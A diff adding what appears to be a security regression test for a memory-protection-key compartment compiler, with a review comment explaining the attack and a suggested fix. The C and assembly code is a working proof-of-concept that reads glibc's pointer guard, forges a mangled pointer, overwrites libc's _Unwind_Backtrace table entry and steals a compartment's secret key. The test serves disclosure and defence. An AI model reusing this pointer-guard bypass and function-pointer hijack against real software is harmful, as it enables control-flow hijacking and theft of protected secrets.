@@ -1,0 +1,143 @@
+// Review 25, attacker model A (key-0 loads and stores, no system call).
+// runtime/unwind-find.c keeps what libgcc_s's unwinder looks up
+// read-only, but a compartment's backtrace() does not call libgcc_s
+// directly: glibc 2.36's backtrace takes _Unwind_Backtrace from its own
+// table of libgcc_s's functions (misc/unwind-link.c: a static struct in
+// libc's .bss, filled once when libgcc_s is first needed, each pointer
+// mangled with the pointer guard), then calls what the demangled word
+// says, with the rights of whoever called backtrace. Both words are key-0
+// memory: the table in libc's .bss, the pointer guard at %fs:0x30 in the
+// TCB (readable by every domain: threat-model's row for it). Here the
+// program reads the guard, finds the table's word by its contents (the
+// mangled address of libgcc_s's _Unwind_Backtrace, in libc's key-0
+// writable pages; a fixed offset in libc's binary) and stores there the
+// mangled address of steal, a function of the program's whose address is
+// taken in asm, so no gate wraps it (it stands for any code that copies
+// through key-0 pointers). The vault's own backtrace then runs it with
+// the vault's rights: it copies the vault's key into the program's buffer
+// and goes on to libgcc_s's function, so the backtrace still works
+// (ATTACK SUCCEEDED; seen in the guest, review 25, with and without the
+// system-call filter). The control stores nothing, steals nothing.
+// The same table gives glibc's cancellation (__pthread_unwind: its
+// _Unwind_ForcedUnwind word, and unwind_stop then calls the key-0 TCB's
+// old-style cleanup list, __routine(__arg)) and its C cleanup personality
+// (not tried).
+// Suggested fix: with a compartment's rights, backtrace must not reach
+// code through libc's key-0 words: the pass could make compartment code's
+// calls to backtrace go to a runtime backtrace that calls libgcc_s's
+// _Unwind_Backtrace directly (its address recorded read-only at start-up,
+// as unwind-find.c records _Unwind_Find_FDE), or through a trampoline into
+// the default domain (its frames then out of reach, as for exit).
+// Cancellation of a thread in a compartment needs the same care.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -ldl -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t | FileCheck %s
+// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -ldl -o %t-nf
+// RUN: %run %t-nf | FileCheck %s
+// CONTROL: the vault's backtrace: frames
+// CONTROL-NEXT: nothing stolen
+// CHECK: libc's words for _Unwind_Backtrace: 1
+// CHECK: the vault's backtrace: frames
+// CHECK-NOT: ATTACK SUCCEEDED
+#define _GNU_SOURCE
+#include <bulkhead.h>
+#include <dlfcn.h>
+#include <execinfo.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+
+BULKHEAD_ENTRY(vault) int vault_trace(void) {
+  void *frames[8];
+  return backtrace(frames, 8);
+}
+
+static char stolen[32];
+static const char *volatile from = vault_key; /* key-0 words */
+static char *volatile to = stolen;
+int (*volatile real)(void *, void *);
+
+__attribute__((used)) void copy(void) {
+  for (int i = 0; i < 31; i++)
+    to[i] = from[i];
+}
+/* copy, then on to libgcc_s's function: in asm, since a pointer call in
+ * the program's C code is followed by the default domain's gate back. */
+__asm__(".text\n"
+        ".globl steal\n"
+        ".type steal, @function\n"
+        "steal:\n"
+        "  pushq %rdi\n"
+        "  pushq %rsi\n"
+        "  subq $8, %rsp\n"
+        "  call copy\n"
+        "  addq $8, %rsp\n"
+        "  popq %rsi\n"
+        "  popq %rdi\n"
+        "  jmpq *real(%rip)\n"
+        ".size steal, .-steal\n");
+
+/* glibc's PTR_MANGLE on x86-64: xor with the guard, rotate left 17. */
+static uintptr_t mangle(uintptr_t p) {
+  uintptr_t guard;
+  __asm__("mov %%fs:0x30, %0" : "=r"(guard)); /* a key-0 load */
+  p ^= guard;
+  return p << 17 | p >> 47;
+}
+
+/* Replaces every key-0 writable word holding OLD by NEW; how many. */
+static int replace(uintptr_t old, uintptr_t new) {
+  FILE *f = fopen("/proc/self/smaps", "r");
+  char line[512];
+  uintptr_t lo = 0, hi = 0;
+  int rw = 0, n = 0, key;
+  while (f && fgets(line, sizeof line, f)) {
+    uintptr_t l, h;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
+      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
+      rw = rw && !strstr(line, "[stack]"); /* a dead copy of glibc's */
+      continue;
+    }
+    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
+      continue;
+    for (uintptr_t *w = (uintptr_t *)lo; w + 1 <= (uintptr_t *)hi; w++)
+      if (*w == old) {
+        *w = new; /* the one store that matters */
+        n++;
+      }
+  }
+  if (f)
+    fclose(f);
+  return n;
+}
+
+int main(int argc, char **argv) {
+  (void)argv;
+  void *first[4];
+  backtrace(first, 4); /* glibc loads libgcc_s and fills its table now */
+  if (argc < 2) {
+    void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
+    real = gcc ? (int (*)(void *, void *))dlsym(gcc, "_Unwind_Backtrace") : 0;
+    if (!real) {
+      puts("no libgcc_s");
+      return 1;
+    }
+    uintptr_t p;
+    __asm__("leaq steal(%%rip), %0" : "=r"(p));
+    printf("libc's words for _Unwind_Backtrace: %d\n",
+           replace(mangle((uintptr_t)real), mangle(p)));
+  }
+  printf("the vault's backtrace: %s\n", vault_trace() > 1 ? "frames" : "none");
+  if (strstr(stolen, "TOP-SECRET")) {
+    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
+           stolen);
+    return 0;
+  }
+  puts("nothing stolen");
+  return 0;
+}
